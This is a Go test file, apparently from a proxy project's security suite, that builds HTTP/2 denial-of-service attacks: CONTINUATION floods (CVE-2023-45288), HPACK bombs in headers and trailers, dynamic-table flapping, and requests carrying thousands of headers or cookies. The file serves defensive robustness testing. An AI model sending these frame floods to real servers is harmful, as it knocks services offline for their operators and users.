package attack

import (
	"bytes"
	"errors"
	"strconv"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/fleetgate/fleetgate/test/internal/wire"
)

// blocks are the attacks by header blocks: without end, larger than they look,
// or such that a table is moved about.
func blocks() []Attack {
	wrong := func(name string, burst func(*session) error) Attack {
		return Attack{Name: name, Within: cutOff, run: flood{burst: burst}.run}
	}
	// What is allowed, but dear, must be cheap enough.
	dear := func(name string, burst func(*session) error) Attack {
		return Attack{Name: name, run: flood{burst: burst}.hold}
	}
	return []Attack{
		// CVE-2023-45288, and the same without a single byte of a block.
		wrong("CONTINUATION flood", continuations(literals(16<<10))),
		wrong("empty CONTINUATION flood", continuations(nil)),
		wrong("HPACK bomb", bomb),
		wrong("HPACK bomb in trailers", trailerBomb),
		dear("dynamic table that flaps", flapping),
		dear("head of thousands of fields", manyFields),
		dear("head of thousands of cookies", manyCookies),
	}
}

// literals is about as many bytes of fields that are in no table.
func literals(size int) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for i := 0; block.Len() < size; i++ {
		// Encoding to memory cannot fail.
		_ = encoder.WriteField(hpack.HeaderField{Name: "x-" + strconv.Itoa(i), Value: strings.Repeat("v", 100), Sensitive: true})
	}
	return block.Bytes()[:min(size, block.Len())]
}

// continuations never ends the block that the first burst began.
func continuations(fragment []byte) func(*session) error {
	return func(s *session) error {
		if s.stream == 0 {
			return s.block(true, false, wire.Block(wire.Request("GET", host, "/attack")...))
		}
		return s.Framer.WriteContinuation(s.stream, false, fragment)
	}
}

const (
	// indexedOwn refers to the newest entry of the dynamic table.
	indexedOwn = 0x80 | 62
	// entry fills the table, whose size counts 32 bytes for each entry.
	entry = 4096 - 32 - len("x")
)

// bombBlock stands for fields of 4 KiB, one for each of its bytes.
func bombBlock(s *session) []byte {
	var block bytes.Buffer
	block.Write(wire.Block(wire.Request("GET", host, "/attack")...))
	block.Write(bombFields())
	return block.Bytes()
}

// bombFields adds one field to the table, and refers to it all the time.
func bombFields() []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	// Encoding to memory cannot fail.
	_ = encoder.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("v", entry)})
	block.Write(bytes.Repeat([]byte{indexedOwn}, 12<<10))
	return block.Bytes()[:min(block.Len(), 16<<10)]
}

// bomb sends one that goes on over frames, as far as a proxy lets it.
func bomb(s *session) error {
	failed := s.block(true, false, bombBlock(s))
	for range 3 {
		failed = errors.Join(failed, s.Framer.WriteContinuation(s.stream, false, bytes.Repeat([]byte{indexedOwn}, 16<<10)))
	}
	return errors.Join(failed, s.Framer.WriteContinuation(s.stream, true, nil))
}

func trailerBomb(s *session) error {
	return errors.Join(s.open(false), s.Framer.WriteHeaders(http2.HeadersFrameParam{
		StreamID: s.stream, BlockFragment: bombFields(), EndStream: true, EndHeaders: true,
	}))
}

// flapping empties and fills the table in each block: the prefix sets its size
// to zero and back to 4096 (RFC 7541, section 4.2).
func flapping(s *session) error {
	fill := wire.Block(wire.Request("GET", host, "/attack")...)
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for i := range 40 {
		_ = encoder.WriteField(hpack.HeaderField{Name: "x-" + strconv.Itoa(i), Value: "v"})
	}
	sizes := []byte{0x20, 0x3f, 0xe1, 0x1f}
	err := s.block(true, true, bytes.Join([][]byte{sizes, fill, block.Bytes()}, nil))
	return errors.Join(err, s.Flush(), s.breathe())
}

func manyFields(s *session) error { return s.wide("x-", 3000) }

func manyCookies(s *session) error { return s.wide("cookie", 10000) }

// wide sends a head of short fields of one name, or of names by a prefix.
func (s *session) wide(name string, count int) error {
	fields := wire.Request("GET", host, "/attack")
	for i := range count {
		field := hpack.HeaderField{Name: name, Value: "a=1"}
		if strings.HasSuffix(name, "-") {
			field.Name += strconv.Itoa(i)
		}
		fields = append(fields, field)
	}
	block := wire.Block(fields...)
	first := min(len(block), 16<<10)
	failed := s.block(true, false, block[:first])
	for rest := block[first:]; len(rest) > 0; {
		n := min(len(rest), 16<<10)
		failed = errors.Join(failed, s.Framer.WriteContinuation(s.stream, false, rest[:n]))
		rest = rest[n:]
	}
	failed = errors.Join(failed, s.Framer.WriteContinuation(s.stream, true, nil), s.Flush())
	return errors.Join(failed, s.breathe())
}

// breathe leaves the proxy time to answer, for attacks by requests that it may
// serve.
func (s *session) breathe() error {
	time.Sleep(time.Millisecond)
	return nil
}
